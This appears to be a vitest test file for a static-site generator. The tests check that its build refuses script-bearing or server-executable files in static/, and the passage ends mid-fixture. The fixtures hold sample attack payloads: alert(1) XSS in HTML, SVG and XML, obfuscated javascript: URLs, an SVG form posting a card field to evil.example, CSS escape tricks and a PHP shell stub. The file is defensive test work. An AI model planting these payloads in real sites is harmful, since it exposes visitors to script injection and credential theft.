// Issue #14, round 2: static/ is content too. Its files are served from the site's origin, so a page,
// a script or an SVG with script in it is an error naming the file; a host configuration file (which
// would replace the site's Content-Security-Policy) is not published, with a warning; hidden files are
// not published, but for .well-known/; plain images, fonts, CSS, JSON and text are copied as they are.
import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { brotliCompressSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BIN, fixtureCopy, REPO_ROOT, runCli, startServe } from '../support/cli.ts';
import { rawRequest, startDev, type RunningDev } from './servers-support.ts';

const PLAIN_SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>\n';

describe('files of static/', () => {
  it('refuses pages and scripts in static/, naming each file, and publishes nothing', async () => {
    const site = await fixtureCopy('basic', 'security-static-code', {
      'static/pwn/index.html': '<!doctype html><script src="/pwn.js"></script>\n',
      'static/docs/start/index.htm': '<h1>fake start page</h1>\n',
      'static/page.xhtml': '<html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>\n',
      'static/pwn.js': 'document.body.append("PWNED")\n',
      'static/lib/mod.MJS': 'export {}\n',
      'static/lib/common.cjs': 'module.exports = {}\n',
      'static/lib/code.wasm': '\0asm',
    });
    const result = await runCli(['build', site]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain("static/pwn/index.html  error  static/pwn/index.html is a .html file: served from the site, it would run script on the site's origin, outside every check content gets.");
    expect(result.stderr).toContain('hint: write the page in content/ as Markdown or MDX');
    // Generated HTML (Litho's 1,210 Javadoc pages) is no page to rewrite by hand.
    expect(result.stderr).toContain('or publish HTML a tool generates (an API reference such as Litho\'s Javadoc) on a host of its own and link to it');
    for (const file of ['static/docs/start/index.htm', 'static/page.xhtml', 'static/pwn.js', 'static/lib/mod.MJS', 'static/lib/common.cjs', 'static/lib/code.wasm'])
      expect(result.stderr).toContain(`${file}  error  ${file} is a `);
    expect(result.stderr).toContain("hint: remove it: the site's script is the runtime's bundle");
    expect(result.stderr).not.toContain('internal error');
    expect(existsSync(path.join(site, 'build'))).toBe(false);
  });

  it("publishes a site-ownership proof, an .html of one line of plain ASCII (Google's, Baidu's), and refuses one with any markup or in another encoding", async () => {
    const site = await fixtureCopy('basic', 'security-static-verification-page', {
      'static/google0a1b2c3d4e5f6a7b.html': 'google-site-verification: google0a1b2c3d4e5f6a7b.html',
      'static/baidu_verify_codeva-Ab12Cd34.htm': '5e0b1c9d8a7f6e5d4c3b2a1908f7e6d5\n',
      'static/markup.html': 'verification: ok <b>bold</b>\n',
      'static/utf16.html': '\ufeffverification',
    });
    await writeFile(path.join(site, 'static/utf16.html'), Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('x\u3c00y', 'utf16le')]));
    const result = await runCli(['build', site]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('static/markup.html  error  static/markup.html is a .html file');
    // One cause, one hint: the second file is a note under the first.
    expect(result.stderr).toContain('  note: static/utf16.html  also a .html file');
    expect(result.stderr).not.toContain('google0a1b2c3d4e5f6a7b');
    expect(result.stderr).not.toContain('baidu_verify');
    expect(result.stderr).toMatch(/build failed: 1 error/);
    await rm(path.join(site, 'static/markup.html'));
    await rm(path.join(site, 'static/utf16.html'));
    const built = await runCli(['build', site]);
    expect(built.stderr).toBe('');
    expect(await readFile(path.join(site, 'build/google0a1b2c3d4e5f6a7b.html'), 'utf8')).toBe('google-site-verification: google0a1b2c3d4e5f6a7b.html');
    expect(existsSync(path.join(site, 'build/baidu_verify_codeva-Ab12Cd34.htm'))).toBe(true);
  });

  // MikroORM's static/ keeps 20 pages jekyll-redirect-from wrote for its old addresses, pnpm's 19 hand-made
  // meta refreshes: each stopped the build as HTML in static/, when what each does is a redirect's work.
  it('reads a page of static/ that only redirects to a page of the site as that redirect, and publishes none of its HTML', async () => {
    const jekyll = (to: string) =>
      `<!DOCTYPE html>\n<html lang="en-US">\n<meta charset="utf-8">\n<title>Redirecting&hellip;</title>\n<link rel="canonical" href="${to}">\n<script>location="${to}"</script>\n<meta http-equiv="refresh" content="0; url=${to}">\n<meta name="robots" content="noindex">\n<h1>Redirecting&hellip;</h1>\n<a href="${to}">Click here if you are not redirected.</a>\n</html>\n`;
    // What @docusaurus/plugin-client-redirects writes.
    const docusaurus = (to: string) =>
      `<!DOCTYPE html>\n<html>\n  <head>\n    <meta charset="UTF-8">\n    <meta http-equiv="refresh" content="0; url=${to}">\n    <link rel="canonical" href="${to}" />\n  </head>\n  <script>\n    window.location.href = '${to}' + window.location.search + window.location.hash;\n  </script>\n</html>\n`;
    const site = await fixtureCopy('basic', 'security-static-redirect-read', {
      'static/relationships/index.html': jekyll('/docs/guides/first/'),
      'static/old-second.html': docusaurus('/docs/guides/second'),
      // Relative, resolved from the page's address as a browser does, anchor kept.
      'static/docs/setup/index.html': "<meta http-equiv='Refresh' content='0;URL=../start#top'>",
      'content/docs/linking.mdx': '---\ntitle: Linking\n---\n\nSee [the old address](/relationships) and [the other](/old-second.html).\n',
    });
    const result = await runCli(['build', site]);
    expect(result.stderr).not.toContain('static/');
    expect(result.code).toBe(0);
    const redirects = JSON.parse(await readFile(path.join(site, 'build', '_dc', 'redirects.json'), 'utf8'));
    expect(redirects).toMatchObject({ '/relationships': '/docs/guides/first', '/old-second': '/docs/guides/second', '/docs/setup': '/docs/start#top' });
    // The build's own redirect pages stand at the addresses (serve leads the .html forms there): the site's HTML and script are not published.
    expect(existsSync(path.join(site, 'build', 'old-second.html'))).toBe(false);
    for (const file of ['relationships/index.html', 'old-second/index.html']) {
      const page = await readFile(path.join(site, 'build', file), 'utf8');
      expect(page, file).toMatch(/<meta http-equiv="refresh" content="0; url=\/docs\/guides\/(first|second)">/);
      expect(page, file).not.toContain('Click here if you are not redirected');
      expect(page, file).not.toContain('window.location.hash;');
    }
    // A change to such a page makes the site again (it is no published file the output is checked by).
    await writeFile(path.join(site, 'static', 'relationships', 'index.html'), jekyll('/docs/other'));
    await runCli(['build', site]);
    const again = JSON.parse(await readFile(path.join(site, 'build', '_dc', 'redirects.json'), 'utf8'));
    expect(again['/relationships']).toBe('/docs/other');
  });

  // pnpm's static/ keeps 19 pages of its old site that only refresh to a new address: the hint said to
  // write them in Markdown, when what they do is the config's redirects' work.
  it('says of a redirect page that does more, or leads to another site, that it is a redirect, the one to write in its place, and why it is not read as one', async () => {
    const tracked = (to: string) => `<!DOCTYPE html>\n<html><head>\n<meta charset="utf-8" />\n<meta http-equiv="refresh" content="0; url=${to}" />\n<script>track('moved')</script>\n</head></html>\n`;
    const pages = Object.fromEntries(Array.from({ length: 22 }, (_, i) => [`static/old/p${String(i).padStart(2, '0')}.html`, tracked('/docs/start')]));
    const site = await fixtureCopy('basic', 'security-static-redirect-pages', {
      ...pages,
      'static/framed.html': '<meta http-equiv="refresh" content="0; url=/docs/start"><iframe src="https://elsewhere.example/"></iframe>',
      'static/handler.html': '<meta http-equiv="refresh" content="0; url=/docs/start"><body onload="steal()"><a href="/docs/start">go</a></body>',
      'static/a-two.html': '<meta http-equiv="refresh" content="0; url=/docs/start"><script>location = "/docs/other"</script>',
      'static/away.htm': '<meta http-equiv="refresh" content="3; url=https://elsewhere.example/a">',
      'static/script.html': '<meta http-equiv="refresh" content="0; url=javascript:alert(1)">',
    });
    const result = await runCli(['check', site]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain("static/old/p00.html is a .html file: served from the site, it would run script on the site's origin, outside every check content gets.\n  hint: it is a redirect page (to /docs/start), which the build writes itself: remove it and add { from: '/old/p00', to: '/docs/start' } to the redirects in site.config.ts");
    expect(result.stderr).toContain('It is not read as one: it also holds a script that does more than go to that address.');
    expect(result.stderr).toContain('It is not read as one: it also holds a <iframe> element.');
    expect(result.stderr).toContain('It is not read as one: it also holds an event handler (onload on a <body>).');
    expect(result.stderr).toMatch(/static\/a-two\.html is a \.html file[^\n]*\n  hint: it is a redirect page \(to \/docs\/start\)[^\n]*a script that does more/);
    expect(result.stderr).toContain("hint: it is a redirect page (to https://elsewhere.example/a), which the build writes itself: remove it and add { from: '/away', to: 'https://elsewhere.example/a' }");
    // A target of another scheme is no redirect to write.
    expect(result.stderr).toMatch(/static\/script\.html is a \.html file[^\n]*\n  hint: write the page in content\//);
    // Many of them count as one kind: 20 shown, the rest counted.
    expect(result.stderr.match(/it is a redirect page/g)).toHaveLength(20);
    expect(result.stderr).toContain('… and 6 more like this');
  });

  // pnpm's static/en/hooks.html leads to /en/pnpmfile, an address of its old site: the site now serves
  // /pnpmfile, and the redirect the hint proposed led nowhere.
  it("is one error for the .html files of static/ that share a hint (QuestDB's six), each other file a note; a redirect page keeps its own", async () => {
    const page = (n: string) => `<!DOCTYPE html><html><body><p>chart ${n}</p><script>x()</script></body></html>\n`;
    const site = await fixtureCopy('basic', 'security-static-html-fold', {
      'static/html/a.html': page('a'),
      'static/html/b.html': page('b'),
      'static/html/c.html': page('c'),
      'static/old.html': '<!DOCTYPE html><html><head><meta http-equiv="refresh" content="0; url=/docs/start"><script>x()</script></head></html>\n',
    });
    const result = await runCli(['check', site]);
    expect(result.stderr).toContain('static/html/a.html  error  static/html/a.html is a .html file: served from the site, it would run script on the site\'s origin, outside every check content gets (3 .html files in static/; this is the first, the others are listed below).');
    expect(result.stderr).toContain('  note: static/html/b.html  also a .html file\n  note: static/html/c.html  also a .html file');
    expect(result.stderr).toContain("static/old.html  error  static/old.html is a .html file: served from the site, it would run script on the site's origin, outside every check content gets.\n  hint: it is a redirect page (to /docs/start)");
    expect(result.stderr).toContain('check failed: 2 errors, 0 warnings');
  });

  it('says a link to a refused redirect page of static/ by its .html name leads to that refused file, a note under its error, not a bare broken link', async () => {
    const site = await fixtureCopy('basic', 'security-static-html-link', {
      'static/en/hooks.html': '<!DOCTYPE html><html><head><meta http-equiv="refresh" content="0; url=/docs/start"></head><body><form action="/x"></form></body></html>\n',
      'content/docs/other.mdx': '---\ntitle: Other\n---\n\nSee [hooks](/en/hooks.html).\n',
    });
    const result = await runCli(['check', site]);
    expect(result.stderr).toContain('static/en/hooks.html  error  static/en/hooks.html is a .html file');
    expect(result.stderr).toContain('  note: content/docs/other.mdx:5:5  referenced here');
    expect(result.stderr).not.toContain('broken link');
    expect(result.stderr).toContain('check failed: 1 error, 0 warnings');
  });

  it('names the page a redirect page read as one should lead to when its target is no page of the site, or says there is none, at its refresh', async () => {
    const refresh = (to: string) => `<!DOCTYPE html>\n<html><head><meta http-equiv="refresh" content="0; url=${to}" /></head></html>\n`;
    const site = await fixtureCopy('basic', 'security-static-redirect-nowhere', {
      'static/en/hooks.html': refresh('/en/docs/start#top'),
      'static/typo.html': refresh('/docs/strat'),
      'static/gone.html': refresh('/en/no-such-address-at-all'),
      'static/fine.html': refresh('/docs/guides/first'),
    });
    const result = await runCli(['check', site]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('static/en/hooks.html:2:13  error  static/en/hooks.html is a redirect page to /en/docs/start#top, which is no page of this site (the nearest is /docs/start#top).');
    expect(result.stderr).toContain('  hint: lead it to /docs/start#top (its refresh, its link and its script), or remove the file.');
    expect(result.stderr).toContain('static/typo.html:2:13  error  static/typo.html is a redirect page to /docs/strat, which is no page of this site (the nearest is /docs/start).');
    expect(result.stderr).toContain("static/gone.html:2:13  error  static/gone.html is a redirect page to /en/no-such-address-at-all, which is no page of this site.\n   2 | ");
    expect(result.stderr).toContain("  hint: lead it to the page that took the old one's place, or remove the file (readers at /gone then find the not-found page).");
    expect(result.stderr).not.toContain('fine.html');
    expect(result.stderr).toContain('check failed: 3 errors');
  });

  it('checks for script every XML file a host serves with an XML type (a .kml, .gpx, .wsdl shows as a document of the site), and refuses .es scripts', async () => {
    const xhtml = '<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><script src="/data/p.txt"/></html>\n';
    const site = await fixtureCopy('basic', 'security-static-xml-types', {
      'static/maps/route.kml': xhtml,
      'static/maps/track.GPX': xhtml,
      'static/api/service.wsdl': '<definitions xmlns="http://schemas.xmlsoap.org/wsdl/"><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script></definitions>\n',
      'static/lib/payload.es': 'alert(1)\n',
      'static/maps/plain.gpx': '<?xml version="1.0"?>\n<gpx xmlns="http://www.topografix.com/GPX/1/1"><wpt lat="1" lon="2"/></gpx>\n',
    });
    const result = await runCli(['build', site]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('static/maps/route.kml:2:44  error  static/maps/route.kml holds a <script> element: opened from the site, it would run script on its origin.');
    expect(result.stderr).toMatch(/static\/maps\/track\.GPX:2:\d+  error  static\/maps\/track\.GPX holds a <script> element/);
    expect(result.stderr).toMatch(/static\/api\/service\.wsdl:1:\d+  error  static\/api\/service\.wsdl holds a <script> element/);
    expect(result.stderr).toContain('static/lib/payload.es  error  static/lib/payload.es is a .es file');
    expect(result.stderr).not.toContain('plain.gpx');
    expect(result.stderr).toMatch(/build failed: 4 errors/);
  });

  it("checks the XML types Debian's /etc/mime.types names (Apache on Debian, Python's http.server): a .xhtm is a page, a .xpdl is XML", async () => {
    // Both ran their script in Chromium from `python3 -m http.server` (application/xhtml+xml, application/xml).
    const site = await fixtureCopy('basic', 'security-static-debian-types', {
      'static/pwn.xhtm': '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>\n',
      'static/flow.xpdl': '<r xmlns="urn:x"><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></r>\n',
      'static/plain.xpdl': '<Package xmlns="http://www.wfmc.org/2008/XPDL2.1"><Activity Id="a"/></Package>\n',
    });
    const result = await runCli(['build', site]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('static/pwn.xhtm  error  static/pwn.xhtm is a .xhtm file: served from the site, it would run script');
    expect(result.stderr).toContain('static/flow.xpdl:1:18  error  static/flow.xpdl holds a <script> element');
    expect(result.stderr).not.toContain('plain.xpdl');
    expect(result.stderr).toMatch(/build failed: 2 errors/);
  });

  it('checks a file by an inner extension Apache types it by (page.html.orig is a page there, a.svg.v2 an SVG), unless its last one is a type every Apache knows', async () => {
    // Apache 2.4 on Debian served static/evil.html.foo as text/html, and Chromium ran its script.
    const site = await fixtureCopy('basic', 'security-static-inner-extensions', {
      'static/old/page.html.orig': '<!doctype html><script>alert(1)</script>\n',
      'static/img/a.svg.v2': '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n',
      'static/examples/index.html.txt': '<!doctype html><script>shown as text</script>\n',
      'static/img/logo.svg.png': 'png',
      'static/img/plain.svg.v2': PLAIN_SVG,
      'static/lib/jquery-3.6.0.min.css': 'a { color: red }\n',
    });
    const result = await runCli(['build', site]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain("static/old/page.html.orig  error  static/old/page.html.orig is a .html file to Apache, which types a file by every extension of its name: served from the site, it would run script on the site's origin, outside every check content gets.");
    expect(result.stderr).toContain('hint: rename it so that .html is not part of its name (page-html.orig), or add .txt to publish it as text (page.html.orig.txt).');
    expect(result.stderr).toContain('static/img/a.svg.v2:1:41  error  static/img/a.svg.v2 holds a <script> element: opened from the site (Apache serves it as a .svg file, by every extension of its name), it would run script on its origin.');
    for (const published of ['index.html.txt', 'logo.svg.png', 'plain.svg.v2', 'jquery-3.6.0.min.css']) expect(result.stderr).not.toContain(published);
    expect(result.stderr).toMatch(/build failed: 2 errors/);
  });

  it('refuses a file of no extension, or one Apache may not know, that begins as a page: Apache sends it with no Content-Type and the browser sniffs it as HTML', async () => {
    // Apache 2.4 on Debian sent static/payload (and a .yaml) with no Content-Type, and Chromium ran their script.
    const site = await fixtureCopy('basic', 'security-static-sniffed', {
      'static/payload': '<html><script>alert(1)</script></html>\n',
      'static/examples/App.svelte': '<script>\n  let count = 0;\n</script>\n<button>{count}</button>\n',
      'static/notes.yaml': '\n  <P>notes<script>alert(1)</script>\n',
      'static/feed': '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>\n',
      'static/CNAME': 'docs.fixture.example\n',
      'static/examples/App.vue': '<template><div>{{ count }}</div></template>\n<script>export default {}</script>\n',
      'static/bom-page': '\uFEFF<html><script>shown as text</script></html>\n',
      'static/examples/page.txt': '<html><script>shown as text</script></html>\n',
      'static/data/plain': '<?xml version="1.0"?><list><item/></list>\n',
    });
    const result = await runCli(['build', site]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('static/payload  error  static/payload has no extension, and begins as an HTML page (<html): Apache sends such a file with no Content-Type, and a browser then reads it as a page of the site and runs its script.');
    expect(result.stderr).toContain('hint: give it the extension of what it is (.txt for text, payload.txt), or remove it.');
    expect(result.stderr).toContain('static/examples/App.svelte ends with .svelte, an extension not every Apache knows, and begins as an HTML page (<script)');
    expect(result.stderr).toContain('static/notes.yaml ends with .yaml, an extension not every Apache knows, and begins as an HTML page (<P)');
    expect(result.stderr).toContain('static/feed has no extension, and begins as an XML document (<?xml) that holds a <script> element');
    for (const published of ['CNAME', 'App.vue', 'bom-page', 'page.txt', 'data/plain']) expect(result.stderr).not.toContain(published);
    expect(result.stderr).toMatch(/build failed: 4 errors/);
  });

  it("refuses an Apache type map with a body of its own (a name with .var, logo.var.png too): Debian's Apache serves that body as the type it names", async () => {
    // Apache 2.4 on Debian (AddHandler type-map var) sent static/tm.var.png's body as text/html, and Chromium ran its script.
    const typeMap = 'URI: inline\n\nContent-type: text/html\nBody:----xyz----\n<html><script>alert(1)</script></html>\n----xyz----\n';
    const site = await fixtureCopy('basic', 'security-static-type-maps', {
      'static/tm.var': typeMap,
      'static/img/logo.var.png': typeMap,
      'static/data/settings.var': 'URI: settings.json\nContent-type: application/json\n',
      'static/img/variables.png': 'Body: png\n',
    });
    const result = await runCli(['build', site]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain("static/tm.var  error  static/tm.var is an Apache type map with a body of its own: Apache on Debian reads every file with .var in its name as one (AddHandler type-map var), and serves its body with the type it names: as text/html, a page that runs its script on the site's origin.");
    expect(result.stderr).toContain('hint: rename it without .var in its name (tm-var), or remove it.');
    expect(result.stderr).toContain('static/img/logo.var.png  error  static/img/logo.var.png is an Apache type map');
    expect(result.stderr).not.toContain('settings.var');
    expect(result.stderr).not.toContain('variables.png');
    expect(result.stderr).toMatch(/build failed: 2 errors/);
  });

  it('refuses files a host runs as programs on its server (.php, .phtml, .aspx, .jsp…), by any extension of their names', async () => {
    // Apache on Debian with libapache2-mod-php ran a published static/shell.php (and img.phtml) as www-data.
    const site = await fixtureCopy('basic', 'security-static-server-code', {
      'static/shell.php': '<?php echo "ran";\n',
      'static/img/pic.phtml': '<?php echo "ran";\n',
      'static/img/logo.php.png': '<?php echo "ran";\n',
      'static/legacy/Default.ASPX': '<%@ Page Language="C#" %>\n',
      'static/app/index.jsp': '<% out.println("ran"); %>\n',
      'static/examples/hello-php.txt': '<?php echo "shown as text";\n',
    });
    const result = await runCli(['build', site]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('static/shell.php  error  static/shell.php is a .php file: a host that runs .php files (Apache with PHP, IIS, Tomcat: most shared hosting) would run it as a program on its server whenever it is asked for.');
    expect(result.stderr).toContain('hint: remove it: the site is static files. To show its code, put it in a code block of a page, or publish it as text under a name without .php (shell-php.txt).');
    expect(result.stderr).toContain('static/img/pic.phtml  error  static/img/pic.phtml is a .phtml file');
    expect(result.stderr).toContain('static/img/logo.php.png  error  static/img/logo.php.png is a .php file');
    expect(result.stderr).toContain('static/legacy/Default.ASPX  error  static/legacy/Default.ASPX is a .aspx file');
    expect(result.stderr).toContain('static/app/index.jsp  error  static/app/index.jsp is a .jsp file');
    expect(result.stderr).not.toContain('hello-php.txt');
    expect(result.stderr).toMatch(/build failed: 5 errors/);
  });

  it('checks a compressed copy (evil.html.gz, pic.svg.br) as the file it stands for: nginx (gzip_static) and Caddy (precompressed) send it in its place', async () => {
    // nginx with gzip_static on answered /evil.html with static/evil.html.gz (no evil.html there), and Chromium ran its script.
    const site = await fixtureCopy('basic', 'security-static-precompressed', { 'static/x.html.zst': 'zstd' });
    const files: Record<string, Buffer> = {
      'static/evil.html.gz': gzipSync('<html><script>alert(1)</script></html>\n'),
      'static/img/pic.svg.br': brotliCompressSync('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n'),
      'static/img/plain.svg.gz': gzipSync(PLAIN_SVG),
      'static/notes.txt.gz': gzipSync('<html><script>text</script></html>\n'),
      'static/img/not-compressed.svg.gz': Buffer.from('not gzip\n'),
    };
    for (const [file, bytes] of Object.entries(files)) await writeFile(path.join(site, file), bytes);
    const result = await runCli(['build', site]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain("static/evil.html.gz  error  static/evil.html.gz is a compressed .html file, which nginx (gzip_static) and Caddy (precompressed) send as the .html file it is a copy of: served from the site, it would run script on the site's origin, outside every check content gets.");
    expect(result.stderr).toContain('static/img/pic.svg.br:1:41  error  static/img/pic.svg.br holds a <script> element once uncompressed: opened from the site (nginx and Caddy send it as the file it is a copy of), it would run script on its origin.');
    expect(result.stderr).toContain('static/x.html.zst  error  static/x.html.zst is a compressed .html file');
    for (const published of ['plain.svg.gz', 'notes.txt.gz', 'not-compressed.svg.gz']) expect(result.stderr).not.toContain(published);
    expect(result.stderr).toMatch(/build failed: 3 errors/);
  });

  it('refuses a file whose name ends with a dot or a space (a.html., b.svg ), which Windows hosts publish as a.html and b.svg', async () => {
    const site = await fixtureCopy('basic', 'security-static-trailing-dot', {
      'static/pwn/a.html.': '<!doctype html><script src="/x.txt"></script>\n',
      'static/img/b.svg ': '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n',
      'static/notes/c..': 'text\n',
      'static/img/ok.svg': PLAIN_SVG,
    });
    const result = await runCli(['build', site]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('static/pwn/a.html.  error  static/pwn/a.html.: its name ends with a dot, which Windows and the hosts on it drop: it would be published as "a.html", unchecked as such.');
    expect(result.stderr).toContain('static/img/b.svg   error  static/img/b.svg : its name ends with a space, which Windows and the hosts on it drop: it would be published as "b.svg", unchecked as such.');
    expect(result.stderr).toContain('static/notes/c..: its name ends with a dot');
    expect(result.stderr).toContain('hint: rename it without the trailing dots and spaces.');
    expect(result.stderr).not.toContain('ok.svg');
    expect(result.stderr).toMatch(/build failed: 3 errors/);
  });

  it('publishes a file of an XML-typed extension that is no XML (a Rust .rs, a binary .xdf): a browser runs nothing of it; one that is XML is still checked', async () => {
    const site = await fixtureCopy('basic', 'security-static-xml-types-not-xml', {
      'static/examples/main.rs': 'use yew::prelude::*;\n\nfn app() -> Html {\n    let onclick = Callback::from(|_| ());\n    let page = "<script>init()</script>";\n    html! { <button {onclick}>{ "+1" }</button> }\n}\n',
      'static/data/recording.xdf': 'XDF:\u0000\u0001\u0002<script>\u0000',
      'static/examples/xml.rs': '\uFEFF\n  <x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>\n',
    });
    const result = await runCli(['build', site]);
    expect(result.stderr).not.toContain('main.rs');
    expect(result.stderr).not.toContain('recording.xdf');
    expect(result.stderr).toMatch(/static\/examples\/xml\.rs:2:\d+  error  static\/examples\/xml\.rs holds a <script> element/);
    expect(result.stderr).toMatch(/build failed: 1 error/);
  });

  it('refuses an SVG that holds script in any of its forms, with the line and column', async () => {
    const svgs: Record<string, string> = {
      'script.svg': '<svg xmlns="http://www.w3.org/2000/svg">\n  <script href="/pwn2.js"/>\n</svg>\n',
      'prefixed.svg': '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>\n',
      'onload.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n',
      'hidden-scheme.svg': '<svg xmlns="http://www.w3.org/2000/svg"><a href="java&#x09;script&#58;alert(1)"><text>x</text></a></svg>\n',
      'animated.svg': '<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" to="https://evil.example/"/><text>x</text></a></svg>\n',
      'foreign.svg': '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div xmlns="http://www.w3.org/1999/xhtml"><form action="https://evil.example/"><input name="card"/></form></div></foreignObject></svg>\n',
      'iframe.svg': '<svg xmlns="http://www.w3.org/2000/svg"><iframe src="/"/></svg>\n',
      'outside.svg': '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="https://evil.example/sprite#x"/></svg>\n',
      'entity.svg': '<!DOCTYPE svg [<!ENTITY x "&#60;script>alert(1)&#60;/script>">]>\n<svg xmlns="http://www.w3.org/2000/svg">&x;</svg>\n',
      'stylesheet.svg': '<?xml-stylesheet type="text/xsl" href="/t.xsl"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>\n',
    };
    const site = await fixtureCopy('basic', 'security-static-svg', Object.fromEntries(Object.entries(svgs).map(([name, text]) => [`static/img/${name}`, text])));
    const result = await runCli(['build', site]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('static/img/script.svg:2:3  error  static/img/script.svg holds a <script> element: opened from the site, it would run script on its origin.');
    expect(result.stderr).toContain('static/img/onload.svg:1:41  error  static/img/onload.svg holds an on… event attribute');
    expect(result.stderr).toContain('static/img/hidden-scheme.svg:1:50  error  static/img/hidden-scheme.svg holds a javascript: URL');
    expect(result.stderr).toContain('static/img/animated.svg:1:49  error  static/img/animated.svg holds an animation of a link or handler');
    expect(result.stderr).toContain('static/img/outside.svg:1:89  error  static/img/outside.svg holds an xlink:href that is neither a #fragment nor an image ("https://evil.example/sprite#x")');
    for (const name of Object.keys(svgs)) expect(result.stderr).toMatch(new RegExp(`static/img/${name.replace('.', '\\.')}:\\d+:\\d+  error  `));
    expect(result.stderr).toContain('hint: remove it from the file');
    expect(result.stderr).not.toContain('internal error');
    expect(existsSync(path.join(site, 'build'))).toBe(false);
  });

  it("publishes an SVG whose links lead to addresses of the site (FINOS FDC3's diagram), and still refuses a script address however it is written", async () => {
    const svg = (href: string) => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="${href}"><text>x</text></a></svg>\n`;
    const site = await fixtureCopy('basic', 'security-static-svg-site-links', {
      'static/img/diagram.svg': svg('84.958431372549'),
      'static/img/docs-link.svg': svg('../docs/start'),
      'static/img/spaced.svg': svg('java&#x0A;script&#58;alert(1)'),
      'static/img/data.svg': svg('data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;'),
    });
    const result = await runCli(['build', site]);
    expect(result.code).toBe(1);
    expect(result.stderr).not.toContain('diagram.svg');
    expect(result.stderr).not.toContain('docs-link.svg');
    expect(result.stderr).toMatch(/static\/img\/spaced\.svg:1:\d+  error  static\/img\/spaced\.svg holds a javascript: URL/);
    expect(result.stderr).toMatch(/static\/img\/data\.svg:1:\d+  error  /);
    expect(result.stderr).toContain('build failed: 2 errors');
  });

  it("publishes diagrams whose labels are styled text in a <foreignObject> (draw.io's and Mermaid's exports), and refuses one holding anything else", async () => {
    const label = (inner: string) => `<svg xmlns="http://www.w3.org/2000/svg"><g><foreignObject pointer-events="none" width="100%" height="100%" style="overflow: visible;">${inner}</foreignObject></g></svg>\n`;
    // With draw.io's fallback for viewers without foreignObject: a link to its help, as its exports have.
    const drawio = label('<div xmlns="http://www.w3.org/1999/xhtml" style="display: flex; width: 118px; scroll-behavior: auto;"><div data-drawio-colors="color: rgb(0, 0, 0); " style="box-sizing: border-box;"><div role="note" style="display: inline-block; font-family: Helvetica;">Checkout<br/>API <b>v2</b>, see <a href="https://developer.mozilla.org/en-US/docs/Web/HTML" style="font-family: &quot;Courier New&quot;;">MDN</a></div></div></div>')
      .replace('</svg>', '<switch><a transform="translate(0,-5)" xlink:href="https://www.diagrams.net/doc/faq/svg-export-text-problems" target="_blank"><text>Text is not SVG - cannot display</text></a></switch></svg>')
      .replace('<svg xmlns="http://www.w3.org/2000/svg">', '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">');
    const mermaid = label('<!-- label --><div xmlns="http://www.w3.org/1999/xhtml" class="labelBkg" style="display: table-cell;"><span class="nodeLabel"><p>Order created</p></span></div>');
    // Figma's background blur: an empty <div> whose style clips it by an element of the image (url(#…)).
    const figma = label('<div xmlns="http://www.w3.org/1999/xhtml" style="backdrop-filter:blur(12px);clip-path:url(#bgblur_0_12_34_clip_path);height:100%;width:100%"></div>');
    const localUrls = label('<div xmlns="http://www.w3.org/1999/xhtml" style="mask: url( \'#m-1\' ); filter: url(#f.2)">x</div>');
    const refused: Record<string, string> = {
      'image.svg': label('<div xmlns="http://www.w3.org/1999/xhtml"><img src="https://tracker.example/p.gif"/></div>'),
      'link.svg': label('<div xmlns="http://www.w3.org/1999/xhtml"><a href="/docs/sign-in">Sign in</a></div>'),
      'span-link.svg': label('<div xmlns="http://www.w3.org/1999/xhtml"><span href="https://evil.example/">x</span></div>'),
      'behavior.svg': label('<div xmlns="http://www.w3.org/1999/xhtml" style="color: red; behavior: url(#x)">x</div>'),
      'style-element.svg': label('<div xmlns="http://www.w3.org/1999/xhtml"><style>@import "https://tracker.example/a.css";</style>x</div>'),
      'style-url.svg': label('<div xmlns="http://www.w3.org/1999/xhtml" style="background: u&#114;l(https://tracker.example/p.gif)">x</div>'),
      'style-escape.svg': label('<div xmlns="http://www.w3.org/1999/xhtml" style="background: \\75 rl(https://tracker.example/p.gif)">x</div>'),
      'quoted-tag.svg': label('<div xmlns="http://www.w3.org/1999/xhtml" title="<iframe src=/>">x</div>'),
